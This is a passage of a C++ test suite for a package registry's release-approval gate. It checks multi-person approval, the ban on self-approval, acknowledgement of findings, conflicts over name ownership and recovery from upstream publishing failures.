// The life of a release, transition by transition, and everybody who tries to take a short cut.

#include <doctest/doctest.h>

#include <algorithm>

#include "tests/support/gate_house.hpp"
#include "tests/support/sigstore_lab.hpp"

using namespace sallyport;

namespace {

const Principal alice = person("alice", {"engineers", "release"});
const Principal rita = person("rita", {"release"});
const Principal rob = person("rob", {"release"});

bool has(const std::vector<std::string>& all, std::string_view what) {
  return std::find(all.begin(), all.end(), what) != all.end();
}
bool says(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}
template <class T>
ErrorKind kind_of(const Result<T>& result) {
  REQUIRE_FALSE(result.has_value());
  return result.error().kind;
}
std::string text_of(BlobStore& blobs, const Sha512& digest) {
  auto blob = blobs.open(digest).value();
  std::vector<std::uint8_t> bytes(blob->size());
  REQUIRE(blob->read(0, bytes).value() == bytes.size());
  return std::string(as_text(bytes));
}
PackageName lib() {
  return PackageName::parse("lib").value();
}
Error disk_full() {
  return fail(ErrorKind::unavailable, "The disk is full.");
}

}  // namespace

TEST_CASE("held, approved by a second engineer, published upstream") {
  GateHouse house(rule_to("main"));
  const PublishBody body = clean_body();
  const Stage held = house.hold(alice, body);
  CHECK(held.state == StageState::held);
  CHECK(held.publisher == "alice");
  CHECK(is_uuid(held.id));
  CHECK(is_review_code(held.code));
  CHECK(held.approvals_needed == 1);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::staged);
  CHECK(house.upstream.puts.empty());

  const auto approved = house.gate->approve(rita, held.code);
  REQUIRE(approved.has_value());
  CHECK(approved->state == StageState::published);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::published);
  REQUIRE(house.upstream.puts.size() == 1);
  CHECK(house.upstream.tarball_of("lib", "1.0.0") == body.tarball());
  CHECK(house.released == std::vector<std::string>{"lib"});
  CHECK(house.actions() ==
        std::vector<std::string>{"stage.held", "stage.approval", "stage.approved", "release.published"});
  const auto entries = house.entries();
  CHECK(entries[0].event.actor == "alice");
  CHECK(entries[0].event.subject == "lib@1.0.0");
  CHECK(entries[0].event.detail.at("integrity").as_string() == to_integrity(held.sha512));
  CHECK(entries[1].event.actor == "rita");
  CHECK(entries[1].event.detail.at("credential").as_string() == "token-of-rita");
  CHECK(entries[1].event.detail.at("binding").as_string() == held.binding());
  CHECK(house.ledger_intact());

  // Again is harmless: no second PUT, no further entry.
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
  CHECK(house.gate->approve(rob, held.id).value().state == StageState::published);
  CHECK(house.upstream.puts.size() == 1);
  CHECK(house.entries().size() == 4);
}

TEST_CASE("held, approved, published into our own store") {
  GateHouse house(rule_to("local"));
  PublishBody body = clean_body();
  body.tag = "next";
  const Stage held = house.hold(alice, body);
  CHECK(kind_of(house.gate->catalog().package(lib())) ==
        ErrorKind::not_found);  // a held version is invisible
  house.clock.advance(std::chrono::hours(3));
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);

  const LocalPackage package = house.gate->catalog().package(lib()).value();
  REQUIRE(package.versions.size() == 1);
  CHECK(package.versions[0].sha512 == held.sha512);
  CHECK(package.versions[0].time == house.clock.now());  // when it became visible, not when it was sent
  CHECK(package.tags.at("next") == "1.0.0");
  CHECK(text_of(house.blobs, held.sha512) == body.tarball());
  CHECK(house.upstream.packuments == 0);
  CHECK(house.released == std::vector<std::string>{"lib"});
  CHECK(house.ledger_intact());
}

TEST_CASE("a release that needs nobody goes on at once, unless something was found") {
  GateHouse house(rule_to("local", 0));
  const auto clean = house.publish(alice, clean_body());
  REQUIRE(clean.has_value());
  CHECK(clean->stage.state == StageState::published);
  CHECK(house.actions() == std::vector<std::string>{"stage.held", "stage.approved", "release.published"});
  const Stage warned = house.hold(alice, warned_body("lib", "1.1.0"));
  CHECK(warned.state == StageState::held);
  CHECK(warned.approvals_needed == 1);
}

TEST_CASE("a quorum of two is two people") {
  GateHouse house(rule_to("main", 2));
  const Stage held = house.hold(alice, clean_body());
  CHECK(held.approvals_needed == 2);
  const Stage once = house.gate->approve(rita, held.id).value();
  CHECK(once.state == StageState::held);
  CHECK(once.approvers() == std::vector<std::string>{"rita"});
  Principal other_token = rita;
  other_token.credential = "another token";
  CHECK(house.gate->approve(other_token, held.id).value().state == StageState::held);
  CHECK(house.upstream.puts.empty());
  CHECK(house.gate->approve(rob, held.id).value().state == StageState::published);
  CHECK(house.upstream.puts.size() == 1);
}

TEST_CASE("what escalates needs one more") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, escalated_body());
  CHECK(held.approvals_needed == 2);
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::held);
  CHECK(house.gate->approve(rob, held.id).value().state == StageState::published);
}

TEST_CASE("nobody approves their own release, whatever token, role or office they have") {
  GateHouse house(rule_to("main", 0));
  const Stage held = house.hold(alice, warned_body());
  std::vector<Principal> guises(5, alice);
  guises[1].credential = "password";
  guises[2].admin = true;
  guises[3].groups = {"release"};
  guises[4].address = "203.0.113.9";
  for (const Principal& guise : guises) {
    CHECK(kind_of(house.gate->approve(guise, held.id)) == ErrorKind::forbidden);
    CHECK(kind_of(house.gate->approve(guise, held.code)) == ErrorKind::forbidden);
    CHECK(kind_of(house.gate->acknowledge(guise, held.id, {"pack/files-allowlist"})) == ErrorKind::forbidden);
  }
  CHECK(house.state(held) == StageState::held);
  CHECK(house.upstream.puts.empty());
  CHECK(house.actions() == std::vector<std::string>{"stage.held"});
}

TEST_CASE("a service, a read-only token and who is no reviewer decide nothing") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, warned_body());
  Principal service = person("ci");
  service.service = true;
  Principal read_only = rita;
  read_only.read_only = true;
  const Principal outsider = person("mallory", {"engineers"});
  Principal admin = person("root", {});
  admin.admin = true;
  for (const Principal& who : {service, read_only, outsider, admin}) {
    CHECK(kind_of(house.gate->approve(who, held.id)) == ErrorKind::forbidden);
    CHECK(kind_of(house.gate->reject(who, held.id, "no")) == ErrorKind::forbidden);
    CHECK(kind_of(house.gate->acknowledge(who, held.id, {"pack/files-allowlist"})) == ErrorKind::forbidden);
  }
  CHECK(kind_of(house.gate->comment(read_only, held.id, "hello")) == ErrorKind::forbidden);
  CHECK(kind_of(house.gate->comment(outsider, held.id, "hello")) == ErrorKind::forbidden);
  CHECK(kind_of(house.gate->view(outsider, held.id)) == ErrorKind::forbidden);
  // Who tries review codes learns no name of what is under review.
  CHECK(house.gate->view(outsider, held.code).error().message.find(held.name) == std::string::npos);
  CHECK(house.gate->approve(outsider, held.code).error().message.find(held.name) == std::string::npos);
  CHECK(kind_of(house.gate->tarball(outsider, held.id)) == ErrorKind::forbidden);
  CHECK(kind_of(house.gate->facts(outsider, held.id)) == ErrorKind::forbidden);
  CHECK(house.gate->list(outsider, "", 0, 10).value().total == 0);
  CHECK(house.gate->list(rita, "", 0, 10).value().total == 1);
  CHECK(house.gate->view(admin, held.id).has_value());
  CHECK(house.actions() == std::vector<std::string>{"stage.held"});
}

TEST_CASE("who may not publish leaves nothing") {
  GateHouse house(rule_to("main"));
  CHECK(kind_of(house.publish(rita, clean_body())) == ErrorKind::forbidden);
  Principal read_only = alice;
  read_only.read_only = true;
  CHECK(kind_of(house.publish(read_only, clean_body())) == ErrorKind::forbidden);
  GateHouse closed(rule_to("deny"));
  CHECK(kind_of(closed.publish(alice, clean_body())) == ErrorKind::forbidden);
  CHECK(house.entries().empty());
  CHECK(house.blob_count() == 0);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::absent);
  Principal service = person("ci", {"engineers"});
  service.service = true;
  CHECK(house.hold(service, clean_body()).publisher_is_service);
}

TEST_CASE("a finding is acknowledged by each who approves, then the approval counts") {
  GateHouse house(rule_to("main", 2));
  const Stage held = house.hold(alice, warned_body());
  REQUIRE(held.findings.size() == 1);
  const auto refused = house.gate->approve(rita, held.id);
  CHECK(kind_of(refused) == ErrorKind::conflict);
  CHECK(says(refused.error().message, "pack/files-allowlist"));
  CHECK(says(refused.error().message, held.code));
  CHECK_FALSE(says(refused.error().message, held.id));
  CHECK(kind_of(house.gate->acknowledge(rita, held.id, {"size/jump"})) == ErrorKind::invalid);
  CHECK(kind_of(house.gate->acknowledge(rita, held.id, {})) == ErrorKind::invalid);
  CHECK(house.gate->acknowledge(rita, held.id, {held.findings[0].fingerprint}).has_value());
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::held);
  CHECK(kind_of(house.gate->approve(rob, held.id)) == ErrorKind::conflict);  // rita's is not rob's
  CHECK(house.gate->acknowledge(rob, held.id, {"pack/files-allowlist"}).has_value());
  CHECK(house.gate->approve(rob, held.id).value().state == StageState::published);
  CHECK(has(house.actions(), "stage.acknowledged"));
}

TEST_CASE("what was acknowledged in the last approved release needs no second acknowledgement") {
  GateHouse house(rule_to("local"));
  const Stage first = house.hold(alice, warned_body());
  REQUIRE(house.gate->acknowledge(rita, first.id, {"pack/files-allowlist"}).has_value());
  REQUIRE(house.gate->approve(rita, first.id).value().state == StageState::published);
  house.clock.advance(std::chrono::hours(1));
  PublishBody next = warned_body("lib", "1.0.1");
  next.code = "module.exports = 2\n";
  const Stage second = house.hold(alice, next);
  REQUIRE(second.findings.size() == 1);
  CHECK(second.findings[0].fingerprint == first.findings[0].fingerprint);
  CHECK(second.baseline == "1.0.0");
  CHECK(house.gate->approve(rob, second.id).value().state == StageState::published);
  // A release that was held and never approved teaches nothing.
  const Stage other = house.hold(alice, warned_body("else"));
  REQUIRE(house.gate->acknowledge(rita, other.id, {"pack/files-allowlist"}).has_value());
  REQUIRE(house.gate->reject(rita, other.id, "").has_value());
  const Stage again = house.hold(alice, warned_body("else", "1.0.1"));
  CHECK(kind_of(house.gate->approve(rita, again.id)) == ErrorKind::conflict);
}

TEST_CASE("what policy refuses is not kept, and stands in nobody's way") {
  GateHouse house(rule_to("main"));
  const auto refused = house.publish(alice, blocked_body());
  REQUIRE(refused.has_value());
  CHECK(refused->stage.state == StageState::blocked);
  CHECK(says(refused->refusal, "pack/private"));
  CHECK(house.blob_count() == 0);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::blocked);
  CHECK(house.actions() == std::vector<std::string>{"stage.blocked"});
  CHECK(house.gate->list(rita, "", 0, 10).value().total == 0);
  CHECK(kind_of(house.gate->approve(rita, refused->stage.id)) == ErrorKind::conflict);
  CHECK(kind_of(house.gate->reject(rita, refused->stage.id, "")) == ErrorKind::conflict);
  CHECK(kind_of(house.gate->tarball(rita, refused->stage.id)) == ErrorKind::not_found);
  CHECK(house.hold(person("bob", {"engineers"}), clean_body()).state == StageState::held);
}

TEST_CASE("a refused repeat leaves the held release where it stood") {
  GateHouse house(rule_to("local"));
  const Stage held = house.hold(alice, clean_body());
  PublishBody bad = blocked_body();
  bad.code = "module.exports = 3\n";
  REQUIRE(house.publish(alice, bad).value().stage.state == StageState::blocked);
  CHECK(house.status("lib", "1.0.0") == VersionStatus::staged);
  // Or another could take the version that is under review.
  CHECK(kind_of(house.publish(person("bob", {"engineers"}), clean_body())) == ErrorKind::conflict);
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
}

TEST_CASE("rejected, withdrawn, and both again") {
  GateHouse house(rule_to("main"));
  const Stage first = house.hold(alice, clean_body());
  const Stage rejected = house.gate->reject(rita, first.id, "leaks\x1b[31m its map").value();
  CHECK(rejected.state == StageState::rejected);
  CHECK(says(rejected.why, "rejected by rita: leaks?[31m its map"));
  CHECK(house.gate->reject(rob, first.id, "me too").value().why == rejected.why);
  const auto late = house.gate->approve(rob, first.id);
  CHECK(kind_of(late) == ErrorKind::conflict);
  CHECK(says(late.error().message, "rejected by rita"));
  CHECK(house.status("lib", "1.0.0") == VersionStatus::absent);

  const Stage second = house.hold(alice, clean_body());
  CHECK(second.id != first.id);
  CHECK(second.decisions.empty());
  const Stage withdrawn = house.gate->reject(alice, second.id, "").value();
  CHECK(withdrawn.state == StageState::rejected);
  CHECK(withdrawn.why == "withdrawn by alice");
  CHECK(house.gate->reject(alice, second.id, "").value().why == "withdrawn by alice");
  CHECK(house.actions() ==
        std::vector<std::string>{"stage.held", "stage.rejected", "stage.held", "stage.withdrawn"});
  CHECK(house.upstream.puts.empty());
  CHECK(house.gate->list(rita, "", 0, 10).value().total == 0);
}

TEST_CASE("the same bytes again are the same release; other bytes void every vote") {
  GateHouse house(rule_to("main", 2));
  const Stage first = house.hold(alice, clean_body());
  REQUIRE(house.gate->approve(rita, first.id).has_value());
  CHECK(house.hold(alice, clean_body()).id == first.id);
  CHECK(house.hold(alice, clean_body()).approvers().size() == 1);
  CHECK(house.entries().size() == 2);

  PublishBody other = clean_body();
  other.code = "module.exports = 2\n";
  const Stage second = house.hold(alice, other);
  CHECK(second.id != first.id);
  CHECK(second.approvers().empty());
  CHECK(house.state(first) == StageState::rejected);
  CHECK(has(house.actions(), "stage.superseded"));
  const auto late = house.gate->approve(rob, first.id);
  CHECK(kind_of(late) == ErrorKind::conflict);
  CHECK(says(late.error().message, "superseded by " + second.code));
  CHECK(house.gate->approve(rob, second.id).value().state == StageState::held);
  CHECK(house.upstream.puts.empty());

  // The tag belongs to what is decided about, and so does the manifest.
  PublishBody tagged = other;
  tagged.tag = "beta";
  const Stage third = house.hold(alice, tagged);
  CHECK(third.id != second.id);
  CHECK(third.approvers().empty());
  CHECK(house.gate->list(rita, "", 0, 10).value().total == 1);
}

TEST_CASE("a version under review by somebody else is a conflict, with the same bytes too") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  const auto taken = house.publish(person("bob", {"engineers"}), clean_body());
  CHECK(kind_of(taken) == ErrorKind::conflict);
  CHECK(says(taken.error().message, held.code));
  CHECK(house.entries().size() == 1);
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::published);
  CHECK(kind_of(house.publish(person("bob", {"engineers"}), clean_body())) == ErrorKind::conflict);
}

TEST_CASE("a version that exists is a conflict") {
  SUBCASE("upstream") {
    GateHouse house(rule_to("main"));
    house.upstream.add("lib", "1.0.0", clean_body().tarball());
    const auto taken = house.publish(alice, clean_body());
    CHECK(kind_of(taken) == ErrorKind::conflict);
    CHECK(says(taken.error().message, "upstream"));
    CHECK(house.blob_count() == 0);
    CHECK(house.entries().empty());
    // The next one is compared with it.
    CHECK(house.hold(alice, clean_body("lib", "1.0.1")).baseline == "1.0.0");
  }
  SUBCASE("here") {
    GateHouse house(rule_to("local"));
    const Stage held = house.hold(alice, clean_body());
    REQUIRE(house.gate->approve(rita, held.id).has_value());
    CHECK(house.hold(alice, clean_body()).state == StageState::published);  // an answer that was not heard
    PublishBody other = clean_body();
    other.code = "module.exports = 2\n";
    CHECK(kind_of(house.publish(alice, other)) == ErrorKind::conflict);
    CHECK(kind_of(house.publish(person("bob", {"engineers"}), clean_body())) == ErrorKind::conflict);
    CHECK(house.gate->catalog().package(lib()).value().versions.size() == 1);
  }
}

TEST_CASE("nothing is decided by time but refusal") {
  PackageRule rule = rule_to("main");
  rule.hold_max = std::chrono::days(2);
  SUBCASE("on the timer") {
    GateHouse house(rule);
    const Stage held = house.hold(alice, clean_body());
    house.clock.advance(std::chrono::days(2) - Millis(1));
    REQUIRE(house.gate->expire_due().has_value());
    CHECK(house.state(held) == StageState::held);
    house.clock.advance(Millis(1));
    REQUIRE(house.gate->expire_due().has_value());
    CHECK(house.state(held) == StageState::rejected);
    CHECK(house.actions() == std::vector<std::string>{"stage.held", "stage.expired"});
    REQUIRE(house.gate->expire_due().has_value());
    CHECK(house.entries().size() == 2);
  }
  SUBCASE("when somebody is too late, before the timer") {
    GateHouse house(rule);
    const Stage held = house.hold(alice, clean_body());
    house.clock.advance(std::chrono::days(2));
    const auto late = house.gate->approve(rita, held.id);
    CHECK(kind_of(late) == ErrorKind::conflict);
    CHECK(says(late.error().message, "nobody decided in time"));
    CHECK(house.state(held) == StageState::rejected);
    CHECK(house.actions() == std::vector<std::string>{"stage.held", "stage.expired"});
    CHECK(house.upstream.puts.empty());
    CHECK(kind_of(house.gate->acknowledge(rita, held.id, {"x"})) == ErrorKind::conflict);
    CHECK(house.gate->reject(rita, held.id, "late").value().why == "nobody decided in time");
  }
  SUBCASE("when the same is published again") {
    GateHouse house(rule);
    const Stage held = house.hold(alice, clean_body());
    REQUIRE(house.gate->comment(rita, held.id, "soon").has_value());
    house.clock.advance(std::chrono::days(2));
    const Stage again = house.hold(alice, clean_body());
    CHECK(again.id != held.id);
    CHECK(again.decisions.empty());
    CHECK(again.expires == house.clock.now() + rule.hold_max);
    CHECK(house.state(held) == StageState::rejected);
    CHECK(has(house.actions(), "stage.expired"));
  }
  SUBCASE("when somebody else publishes it") {
    GateHouse house(rule);
    const Stage held = house.hold(alice, clean_body());
    house.clock.advance(std::chrono::days(2));
    CHECK(house.hold(person("bob", {"engineers"}), clean_body()).publisher == "bob");
    CHECK(house.state(held) == StageState::rejected);
  }
  SUBCASE("what is approved does not expire") {
    GateHouse house(rule);
    house.upstream.on_put(OnPut::lose);
    const Stage held = house.hold(alice, clean_body());
    REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::approved);
    house.clock.advance(std::chrono::days(30));
    REQUIRE(house.gate->expire_due().has_value());
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::published);
  }
}

TEST_CASE("a local package does not take an upstream name, unless an administrator says so") {
  PackageRule rule = rule_to("main");
  rule.publish = "local";
  GateHouse house(rule);
  house.upstream.add("lib", "0.9.0", clean_body("lib", "0.9.0").tarball());
  const auto refused = house.publish(alice, clean_body());
  CHECK(kind_of(refused) == ErrorKind::conflict);
  CHECK(says(refused.error().message, "administrator"));
  CHECK(house.blob_count() == 0);
  Principal admin = person("root");
  admin.admin = true;
  const Stage held = house.hold(admin, clean_body());
  CHECK(held.baseline.empty());  // the upstream's releases are not this package's history
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::published);
  const int asked = house.upstream.packuments;
  // From then on the name is ours, and the upstream is not asked about it.
  CHECK(house.hold(alice, clean_body("lib", "1.0.1")).state == StageState::held);
  CHECK(house.upstream.packuments == asked);
  CHECK(house.upstream.puts.empty());
}

namespace {

PackageRule local_beside_main() {
  PackageRule rule = rule_to("main");
  rule.publish = "local";
  return rule;
}
std::string owner_of(GateHouse& house) {
  const auto owner = NameOrigins(house.memory).of(lib()).value();
  return owner ? owner->origin : "";
}

}  // namespace

TEST_CASE("a name that may be an upstream's is not published here unasked") {
  GateHouse house(local_beside_main());
  house.upstream.down = true;
  CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::unavailable);
  CHECK(house.blob_count() == 0);
}

TEST_CASE("a name that was once found upstream stays its own, also when it is gone there") {
  GateHouse house(local_beside_main());
  REQUIRE(NameOrigins(house.memory).claim(lib(), "main", house.clock.now()).has_value());
  const auto refused = house.publish(alice, clean_body());
  CHECK(kind_of(refused) == ErrorKind::forbidden);
  CHECK(says(refused.error().message, "belongs to the upstream \"main\""));
  CHECK(says(refused.error().message, "sallyport origin lib --move local"));
  Principal admin = person("root");
  admin.admin = true;
  const Stage held = house.hold(admin, clean_body());
  CHECK(held.shadows);
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::published);
  CHECK(owner_of(house) == "local");
  CHECK_FALSE(house.hold(alice, clean_body("lib", "1.0.1")).shadows);
}

TEST_CASE("a name of another origin is not published to this one, not even by an administrator") {
  GateHouse house(rule_to("main"));
  REQUIRE(NameOrigins(house.memory).claim(lib(), "other", house.clock.now()).has_value());
  Principal admin = person("root");
  admin.admin = true;
  CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::forbidden);
  CHECK(kind_of(house.publish(admin, clean_body())) == ErrorKind::forbidden);
  CHECK(house.upstream.puts.empty());
}

TEST_CASE("a package of our own is not published to an upstream") {
  GateHouse house(rule_to("main"));
  REQUIRE(house.ledger
              ->commit([&](Fact& fact) -> Result<void> {
                return Catalog::publish(fact, lib(), {"0.9.0", {}, {}, 1, fact.now()}, "latest", "a stage");
              })
              .has_value());
  const auto refused = house.publish(alice, clean_body());
  CHECK(kind_of(refused) == ErrorKind::forbidden);
  CHECK(says(refused.error().message, "belongs to this registry itself"));
  CHECK(house.upstream.asked.empty());
}

TEST_CASE("what is released makes the name its target's") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  CHECK(owner_of(house).empty());
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::published);
  CHECK(owner_of(house) == "main");
}

TEST_CASE("a name that an upstream got while the release was held is not shadowed by its approval") {
  GateHouse house(local_beside_main());
  const Stage held = house.hold(alice, clean_body());
  SUBCASE("it is there now") {
    house.upstream.add("lib", "99.0.0", "somebody else's");
    const Stage failed = house.gate->approve(rita, held.id).value();
    CHECK(failed.state == StageState::failed);
    CHECK(says(failed.why, "administrator"));
    CHECK(house.status("lib", "1.0.0") == VersionStatus::failed);
  }
  SUBCASE("it was installed from there") {
    REQUIRE(NameOrigins(house.memory).claim(lib(), "main", house.clock.now()).has_value());
    const Stage failed = house.gate->approve(rita, held.id).value();
    CHECK(failed.state == StageState::failed);
    CHECK(says(failed.why, "belongs to the upstream"));
  }
  SUBCASE("nobody knows") {
    house.upstream.down = true;
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::approved);
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::approved);
    house.upstream.down = false;
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::published);
  }
}

TEST_CASE("an upstream that cannot be asked refuses the publish and loses nothing") {
  GateHouse house(rule_to("main"));
  house.upstream.down = true;
  CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::unavailable);
  CHECK(house.blob_count() == 0);
  CHECK(house.entries().empty());
  house.upstream.down = false;
  for (const std::string lie : {"not JSON", "[]", R"({"versions":{},"versions":{"1.0.0":{}}})"}) {
    house.upstream.packument_text = lie;
    CHECK(kind_of(house.publish(alice, clean_body())) == ErrorKind::upstream);
    CHECK(house.blob_count() == 0);
  }
  house.upstream.packument_text.clear();
  const Stage held = house.hold(alice, clean_body());
  house.upstream.down = true;
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::approved);
  CHECK(house.gate->approve(rita, held.id).value().state == StageState::approved);
  CHECK(kind_of(house.gate->reject(rob, held.id, "too late")) == ErrorKind::conflict);
  CHECK(house.released.empty());
  house.upstream.down = false;
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::published);
  CHECK(house.upstream.puts.size() == 1);
  CHECK(house.released == std::vector<std::string>{"lib"});
}

TEST_CASE("an unclear answer is read back") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  SUBCASE("it was stored") {
    house.upstream.on_put(OnPut::store_and_lose);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
    CHECK(house.upstream.puts.size() == 1);
  }
  SUBCASE("it was stored behind a 500") {
    house.upstream.on_put(OnPut::store_and_5xx);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
    CHECK(house.upstream.puts.size() == 1);
  }
  SUBCASE("it was stored, and refused the second time") {
    house.upstream.on_put(OnPut::store_and_refuse);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
  }
  SUBCASE("it was stored, and the read-back came to nothing: not sent again") {
    house.upstream.on_put(OnPut::store_and_lose);
    house.upstream.packuments_down = true;
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::approved);
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::approved);
    house.upstream.packuments_down = false;
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::published);
    CHECK(house.upstream.puts.size() == 1);
  }
  SUBCASE("it was not stored: sent again") {
    house.upstream.on_put(OnPut::lose);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::approved);
    CHECK(house.status("lib", "1.0.0") == VersionStatus::staged);
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::published);
    CHECK(house.upstream.puts.size() == 2);
    CHECK(house.upstream.puts[0].body == house.upstream.puts[1].body);
  }
  SUBCASE("somebody else's bytes are there: a conflict, and it stays one") {
    house.upstream.on_put(OnPut::other_and_refuse);
    const Stage failed = house.gate->approve(rita, held.id).value();
    CHECK(failed.state == StageState::failed);
    CHECK(says(failed.why, "other bytes"));
    CHECK(house.status("lib", "1.0.0") == VersionStatus::failed);
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::failed);
    CHECK(house.upstream.puts.size() == 1);
    CHECK(house.gate->reject(alice, held.id, "").value().state == StageState::rejected);
  }
  SUBCASE("a shasum alone tells it too") {
    house.upstream.on_put(OnPut::store_and_lose);
    house.upstream.packument_text =
        R"({"versions":{"1.0.0":{"dist":{"shasum":")" + to_hex(held.sha1) + "\"}}}}";
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
  }
  SUBCASE("a version without a digest is not ours") {
    house.upstream.on_put(OnPut::lose);
    house.upstream.packument_text = R"({"versions":{"1.0.0":{"dist":{}}}})";
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::failed);
  }
  CHECK(house.ledger_intact());
}

TEST_CASE("a refusal is kept in view and tried again by approving again") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  house.upstream.on_put(OnPut::refuse);
  const Stage failed = house.gate->approve(rita, held.id).value();
  CHECK(failed.state == StageState::failed);
  CHECK(failed.why == "you may not publish here");
  CHECK(house.gate->list(rita, "", 0, 10).value().total == 1);
  CHECK(kind_of(house.publish(person("bob", {"engineers"}), clean_body())) == ErrorKind::conflict);
  REQUIRE(house.resume().has_value());
  CHECK(house.upstream.puts.size() == 1);  // the timer does not insist
  CHECK(kind_of(house.gate->approve(alice, held.id)) == ErrorKind::forbidden);
  const Stage retried = house.gate->approve(rob, held.id).value();
  CHECK(retried.state == StageState::published);
  CHECK(retried.why.empty());
  CHECK(house.upstream.puts.size() == 2);
  CHECK(house.actions() == std::vector<std::string>{"stage.held", "stage.approval", "stage.approved",
                                                    "release.failed", "stage.retried", "release.published"});
}

TEST_CASE("an upstream that is gone from the configuration fails the release") {
  GateHouse house(rule_to("main"));
  house.upstream.on_put(OnPut::lose);
  const Stage held = house.hold(alice, clean_body());
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::approved);
  StageStore stages(house.memory);
  Outbox outbox(
      house.store, *house.ledger, house.blobs, stages, [](auto) { return nullptr; },
      [](const Stage&) { return std::string(); });
  const Stage failed = outbox.forward(held.id, Millis(1000)).value();
  CHECK(failed.state == StageState::failed);
  CHECK(says(failed.why, "\"main\""));
}

TEST_CASE("what an upstream holds for a review of its own is not published before that lets it through") {
  using State = UpstreamReview::State;
  GateHouse house(rule_to("main"));
  house.upstream.on_put(OnPut::hold);
  const Stage held = house.hold(alice, clean_body());
  const Stage waiting = house.gate->approve(rita, held.id).value();
  CHECK(waiting.state == StageState::approved);
  CHECK(waiting.why == "the upstream holds it");
  CHECK(house.status("lib", "1.0.0") == VersionStatus::staged);
  CHECK(house.released.empty());
  // However often it is looked at, and after a restart: it is not sent again.
  for (int i = 0; i < 3; ++i) REQUIRE(house.resume().has_value());
  house.restart();
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::approved);
  CHECK(house.upstream.puts.size() == 1);
  CHECK(house.upstream.reviews_asked == std::vector<std::string>(4, "7a"));
  CHECK(house.ledger->verify().value().broken_at == std::nullopt);

  SUBCASE("it lets it through") {
    house.upstream.review = UpstreamReview{State::over, {}};
    house.upstream.add("lib", "1.0.0", clean_body().tarball());
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::published);
    CHECK(house.released == std::vector<std::string>{"lib"});
  }
  SUBCASE("it refuses it; another approval sends it again") {
    house.upstream.review = UpstreamReview{State::refused, "not this one"};
    REQUIRE(house.resume().has_value());
    const Stage failed = StageStore(house.memory).find(held.id).value();
    CHECK(failed.state == StageState::failed);
    CHECK(says(failed.why, "not this one"));
    CHECK(house.gate->approve(rita, held.id).value().state == StageState::published);
    CHECK(house.upstream.puts.size() == 2);
  }
  SUBCASE("it is gone there, and nothing was published") {
    house.upstream.review = UpstreamReview{State::over, {}};
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::failed);
  }
  SUBCASE("what is there has other bytes") {
    house.upstream.review = UpstreamReview{State::over, {}};
    house.upstream.add("lib", "1.0.0", "somebody else's");
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::failed);
  }
  SUBCASE("nobody can tell") {
    house.upstream.review.reset();
    REQUIRE(house.resume().has_value());
    house.upstream.review = UpstreamReview{State::over, {}};
    house.upstream.packuments_down = true;
    REQUIRE(house.resume().has_value());
    CHECK(house.state(held) == StageState::approved);
    CHECK(house.upstream.puts.size() == 1);
  }
}

TEST_CASE("an upstream that does not say how to ask for its review is read back, and not sent to again") {
  GateHouse house(rule_to("main"));
  house.upstream.review_id.clear();
  house.upstream.on_put(OnPut::hold);
  const Stage held = house.hold(alice, clean_body());
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::approved);
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::approved);
  house.upstream.add("lib", "1.0.0", clean_body().tarball());
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::published);
  CHECK(house.upstream.puts.size() == 1);
  CHECK(house.upstream.reviews_asked.empty());
}

TEST_CASE("what was approved goes out after a restart") {
  GateHouse house(rule_to("main"));
  const Stage held = house.hold(alice, clean_body());
  house.upstream.down = true;
  REQUIRE(house.gate->approve(rita, held.id).value().state == StageState::approved);
  house.restart();
  house.upstream.down = false;
  REQUIRE(house.resume().has_value());
  CHECK(house.state(held) == StageState::published);
  CHECK(house.upstream.puts.size() == 1);
  house.restart();
  REQUIRE(house.resume().has_value());
  CHECK(house.upstream.puts.size() == 1);
  CHECK(house.released == std::vector<std::string>{"lib"});
